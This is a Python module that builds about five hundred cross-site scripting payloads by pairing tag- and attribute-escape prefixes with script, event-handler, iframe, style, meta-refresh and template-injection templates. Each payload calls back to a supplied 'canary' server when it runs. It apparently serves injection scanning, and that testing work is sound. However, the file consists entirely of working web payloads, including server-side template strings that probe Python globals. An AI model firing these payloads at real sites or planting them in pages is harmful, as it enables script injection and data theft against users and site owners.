"""Five hundred ways to break out of a page. Each one that runs asks the canary's server for something."""

_ESCAPES = (
    "",
    '">',
    "'>",
    "</title>",
    "</style>",
    "-->",
    "]]>",
    "</svg>",
    "</mark></p>",
    '"/>',
    "\x00",
    "{{",
    "&quot;>",
)
_ACTS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src={url}></script>",
    "<img src=x onerror={js}>",
    '<img src="{url}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><image href={url} /></svg>",
    "<body onload={js}>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src={url}></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<link rel=stylesheet href={url}>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<div style='background:url({url})'>x</div>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>",
    "<form action={url}><input autofocus onfocus={js}></form>",
    "<details open ontoggle={js}>",
    "<video src={url} autoplay onerror={js}></video>",
    "<audio src={url} autoplay></audio>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<marquee onstart={js}>x</marquee>",
    "<a href=javascript:{js} autofocus>x</a>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<template><script>{js}</script></template><script>{js}</script>",
    "<noscript><p title='</noscript><script>{js}</script>'></noscript>",
    " onmouseover={js} autofocus onfocus={js} x=",
    "' onload='{js}' x='",
    '" onload="{js}" x="',
    "{{{{ 7 * 7 }}}}{{% import 'os' %}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script>",
    "<animate onbegin={js} attributeName=x dur=1s>",
)


def payloads(server: str) -> list[str]:
    """507 strings; ``server`` is where a canary that flies arrives."""
    made = []
    for number, (escape, act) in enumerate((e, a) for e in _ESCAPES for a in _ACTS):
        url = f"{server}/{number}"
        made.append(escape + act.format(js=f"document.title='canary';new(Image)().src='{url}'", url=url))
    return made
